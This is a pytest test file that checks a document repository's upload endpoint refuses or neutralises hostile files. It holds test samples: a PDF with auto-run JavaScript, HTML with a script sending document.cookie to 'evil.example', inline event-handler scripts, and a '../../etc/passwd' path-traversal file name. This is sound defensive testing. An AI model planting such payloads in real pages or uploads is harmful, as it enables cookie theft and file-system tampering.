"""Hostile uploads are refused or neutralised with a clear message, one batch at a time,
and nothing else is affected: the good file of the same batch still becomes a draft."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from repository.config import Settings
from tests.workspace.conftest import INGEST_GOOD

pytestmark = pytest.mark.slow  # a real store and model behind the app
BROKEN = INGEST_GOOD.parent / "broken"


def pdf_with_javascript() -> bytes:
    """A one-page text PDF whose catalog runs JavaScript when opened."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> >>",
        None,  # the content stream, below
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    text = b"BT /F1 18 Tf 72 700 Td (Night patrols in Ghent) Tj ET"
    objects[3] = b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + (body or b"") + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


HTML_WITH_SCRIPTS = b"""<!doctype html><html><head><title>Street lighting in Porto</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><main><h1>Street lighting in Porto</h1>
<p onmouseover="alert(1)">The city of Porto replaced the lighting of forty streets around
its night-time district and asked residents where they felt unsafe at night.</p>
<script>alert('inline')</script><img src=x onerror="alert(2)">
<h2>Context</h2><p>Residents reported dark streets and fear of crime after dark; the
city mapped the places with them before changing anything in the district.</p>
<h2>Results</h2><p>Reported fear of crime fell in the surveyed streets after a year.</p>
</main></body></html>"""

PASSWD_MD = b"---\ntitle: Neighbourhood watch in Graz\ncountry: Austria\n---\n" \
    b"Residents of Graz keep an eye on their streets with the police.\n\n" \
    b"## Context\nBurglaries rose in two districts.\n"


def _upload(client: TestClient, token: str, files: list[tuple[str, bytes]]) -> dict:
    response = client.post("/api/workspace/uploads",
                           files=[("files", (name, data)) for name, data in files],
                           headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    return response.json()


def test_each_hostile_file_fails_alone_with_a_clear_message(
        app_client: TestClient, token: str, ws_settings: Settings, tmp_path: Path) -> None:
    published_before = app_client.get("/api/search").json()["total"]
    report = _upload(app_client, token, [
        ("zip-bomb.docx", (BROKEN / "zip-bomb.docx").read_bytes()),
        ("entities.docx", (BROKEN / "entities.docx").read_bytes()),
        ("active.pdf", pdf_with_javascript()),
        ("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
        ("street-pastors.txt", (INGEST_GOOD / "street-pastors.txt").read_bytes()),
    ])
    failed = {f["file"]: f["error"] for f in report["failed"]}
    assert "zip bomb" in failed["zip-bomb.docx"]
    assert "entities" in failed["entities.docx"]
    assert "JavaScript" in failed["active.pdf"]
    assert "unsupported file type" in failed["passwd"]
    assert all("\n" not in e and e.startswith(f + ": ") for f, e in failed.items())
    assert [d["file"] for d in report["drafts"]] == ["street-pastors.txt"]
    assert app_client.get("/api/search").json()["total"] == published_before
    assert not (tmp_path / "etc").exists()
    assert not (ws_settings.data_dir / "uploads").exists()  # uploads are read from memory


def test_a_path_in_the_file_name_is_dropped_and_the_original_stored_by_hash(
        app_client: TestClient, token: str, ws_settings: Settings) -> None:
    report = _upload(app_client, token, [("../../etc/passwd.md", PASSWD_MD)])
    draft = report["drafts"][0]
    assert draft["file"] == "passwd.md"
    sheet = app_client.get(f"/api/workspace/sheets/{draft['id']}",
                           headers={"Authorization": f"Bearer {token}"}).json()
    source = sheet["record"]["source"]
    assert source["file"] == "passwd.md"
    assert source["stored_as"] == f"{source['sha256']}.md"
    assert (ws_settings.originals_dir / source["stored_as"]).read_bytes() == PASSWD_MD
    names = [p.name for p in ws_settings.data_dir.rglob("*")]
    assert all(re.fullmatch(r"[0-9a-f]{64}\.\w+", p.name)
               for p in ws_settings.originals_dir.iterdir())
    assert not [n for n in names if "passwd" in n]


def test_scripts_in_an_html_upload_are_never_rendered(app_client: TestClient, token: str,
                                                      admin: str) -> None:
    report = _upload(app_client, token, [("porto.html", HTML_WITH_SCRIPTS)])
    sheet_id = report["drafts"][0]["id"]
    record = app_client.get(f"/api/workspace/sheets/{sheet_id}",
                            headers={"Authorization": f"Bearer {token}"}).json()["record"]
    text = str({k: v for k, v in record.items() if k != "source"})
    assert "<script" not in text and "document.cookie" not in text and "onerror" not in text
    page = app_client.get(f"/workspace/sheets/{sheet_id}")
    assert page.status_code == 200
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", page.text, re.S)
    assert all(body.strip() == "" for body in scripts)  # only external files of our own
    assert re.findall(r"<script\b[^>]*\bsrc=\"([^\"]+)\"", page.text) == [
        s for s in re.findall(r"<script\b[^>]*\bsrc=\"([^\"]+)\"", page.text)
        if s.startswith("/static/")]
    assert "alert(" not in page.text and "onerror=" not in page.text
    assert "evil.example" not in page.text
    original = app_client.get(f"/workspace/sheets/{sheet_id}/original")
    assert original.headers["content-security-policy"] == "sandbox"
    assert original.headers["content-disposition"].startswith("attachment")
    assert original.headers["content-type"] == "application/octet-stream"


def test_too_many_files_are_refused_whole(app_client: TestClient, token: str,
                                          ws_settings: Settings) -> None:
    files = [(f"s{i}.md", PASSWD_MD) for i in range(ws_settings.max_upload_files + 1)]
    response = app_client.post("/api/workspace/uploads",
                               files=[("files", f) for f in files],
                               headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 400
    assert "REPOSITORY_MAX_UPLOAD_FILES" in response.json()["error"]["message"]
